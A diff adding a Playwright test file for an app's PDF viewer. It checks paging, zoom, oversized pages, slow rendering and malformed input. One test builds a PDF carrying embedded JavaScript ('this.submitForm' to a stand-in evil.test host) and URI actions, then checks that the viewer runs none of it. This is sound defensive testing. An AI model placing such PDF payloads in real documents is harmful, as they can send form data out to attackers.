@@ -1,0 +1,129 @@
+import type { Page, Route } from "playwright-core";
+import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
+import { type Office, openOffice } from "./support/office.ts";
+import { asData, pdfOf } from "./support/pdf.ts";
+import { ItemSeats } from "./support/items.ts";
+import type { SeatOptions } from "./support/seat.ts";
+import { faultsOn } from "./support/sound.ts";
+
+let office: Office;
+const seats = new ItemSeats();
+beforeAll(async () => {
+  office = await openOffice({}, "kinds");
+});
+afterEach(async () => {
+  await seats.leave();
+  await office.empty();
+});
+afterAll(() => office.stop());
+
+/** Files of the host that the flow allows, and everything that is asked of any other host. */
+async function open(document: unknown, files: Readonly<Record<string, Buffer>> = {}, options?: SeatOptions) {
+  await office.submit({ title: "A document", document });
+  const asked: string[] = [];
+  const answer = (route: Route): Promise<void> => {
+    const url = route.request().url();
+    const body = files[new URL(url).pathname.slice(1)];
+    if (body === undefined) asked.push(url);
+    return body === undefined
+      ? route.abort()
+      : route.fulfill({ body, contentType: "application/pdf", headers: { "access-control-allow-origin": "*" } });
+  };
+  const before = (page: Page): Promise<unknown> => page.route(/^https:\/\/[^/]*\.(example|test)\//, answer);
+  return { page: await seats.take(office, "A document", { before, ...options }), asked };
+}
+
+const pages = (page: Page) => page.getByRole("group", { name: "Document" });
+/** How many pixels of the first page's drawing are dark. */
+const inkOn = (page: Page): Promise<number> =>
+  page.evaluate(`(() => {
+    const canvas = document.querySelector(".pdf-page canvas");
+    const copy = new OffscreenCanvas(canvas.width, canvas.height).getContext("2d");
+    copy.drawImage(canvas, 0, 0);
+    return copy.getImageData(0, 0, canvas.width, canvas.height).data.filter((value, at) => at % 4 === 0 && value < 100).length;
+  })()`);
+
+test("a PDF of 100 pages shows its first page; keys turn and zoom, and only what is in sight is drawn", async () => {
+  const { page } = await open("https://files.example/long.pdf", { "long.pdf": pdfOf(100) });
+  await page.keyboard.press("n");
+  await page.keyboard.type("typed while it loads");
+  expect(await page.locator("textarea").inputValue()).toBe("typed while it loads");
+  await page.getByText("This is page 1", { exact: true }).waitFor();
+  await expect.poll(() => inkOn(page)).toBeGreaterThan(500);
+  await pages(page).focus();
+  await page.keyboard.press("PageDown");
+  await page.getByText("Page 2 of 100", { exact: true }).waitFor();
+  await page.getByText("This is page 3", { exact: true }).waitFor({ state: "attached" });
+  expect(await pages(page).locator("canvas").count()).toBeLessThan(6);
+  const width = (): Promise<number> =>
+    pages(page)
+      .locator("canvas")
+      .last()
+      .evaluate((element) => element.clientWidth);
+  const whole = await width();
+  await page.keyboard.press("+");
+  await expect.poll(width).toBeGreaterThan(1.4 * whole);
+  await page.getByText("Page 2 of 100", { exact: true }).waitFor();
+  await page.keyboard.press("-");
+  await expect.poll(width).toBe(whole);
+  await page.getByRole("button", { name: "Previous page" }).click();
+  await page.getByText("Page 1 of 100", { exact: true }).waitFor();
+  expect(await faultsOn(page)).toEqual([]);
+});
+
+test("a PDF that runs scripts, calls others and draws without end does none of it; its text is there", async () => {
+  const script = "app.alert('harmed'); this.submitForm('https://evil.test/form');";
+  const catalogue = `/OpenAction<</S/JavaScript/JS(${script})>>/AA<</WC<</S/URI/URI(https://evil.test/closed)>>>>`;
+  const page = `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 900 900]/A<</S/URI/URI(https://evil.test/link)>>>>]/AA<</O<</S/JavaScript/JS(${script})>>>>`;
+  const { page: window, asked } = await open(asData(pdfOf(2, { catalogue, page })));
+  await window.getByText("This is page 1", { exact: true }).waitFor();
+  await pages(window).getByText("Line 3 of page 1", { exact: true }).click({ force: true });
+  expect(await window.locator("article a").count()).toBe(0);
+  expect(asked).toEqual([]);
+});
+
+test("a page of a thousand kilometres says that it cannot be drawn, a huge square one is drawn small", async () => {
+  const { page } = await open(asData(pdfOf(1, { size: [10, 2_000_000] })));
+  await page.getByText("This page cannot be drawn.").waitFor();
+  await page.keyboard.press("1");
+  await office.submit({ title: "Square", document: asData(pdfOf(1, { size: [2_000_000, 2_000_000] })) });
+  await page.getByRole("heading", { name: "Square" }).waitFor();
+  await pages(page).locator("canvas").waitFor();
+  const size = "(({ width, height }) => width * height)(document.querySelector('.pdf-page canvas'))";
+  const pixels = await page.evaluate<number>(size);
+  expect(pixels).toBeLessThan(8_100_000);
+});
+
+test("keys are taken while a page is drawn that never ends", async () => {
+  const circles = Array.from({ length: 400_000 }, (_, at) => `${at % 600} ${at % 800} 300 300 re S`).join("\n");
+  const { page } = await open("https://files.example/slow.pdf", { "slow.pdf": pdfOf(3, { drawn: circles }) });
+  await page.getByRole("group", { name: "Page 1 of 3" }).waitFor();
+  const longest = await page.evaluate<number>(`new Promise((resolve) => {
+    let [last, longest] = [performance.now(), 0];
+    const end = last + 3000;
+    const tick = setInterval(() => {
+      const now = performance.now();
+      longest = Math.max(longest, now - last);
+      last = now;
+      if (now > end) { clearInterval(tick); resolve(longest); }
+    }, 5);
+  })`);
+  await page.keyboard.press("n");
+  await page.keyboard.type("typed meanwhile");
+  expect(await page.locator("textarea").inputValue()).toBe("typed meanwhile");
+  expect(longest).toBeLessThan(1_000);
+});
+
+test.each([
+  ["no PDF", asData(Buffer.from("<html>")), "This is no PDF that can be read"],
+  ["cut off", asData(pdfOf(3).subarray(0, 300)), "This is no PDF that can be read"],
+  ["another type", "data:text/html,hello", "There is no PDF here that can be shown."],
+  ["a number", 7, "There is no PDF here that can be shown."],
+  ["another host", "https://evil.test/a.pdf", "this flow does not allow files from this host"],
+  ["a reference that is not there", { upload: "up_1" }, "There is no PDF here that can be shown."],
+])("what is no PDF says so, and is there as it was sent: %s", async (_what, document, sentence) => {
+  const { page, asked } = await open(document);
+  await page.getByText(sentence).waitFor();
+  await page.getByText("As it was sent").click();
+  expect(asked).toEqual([]);
+});
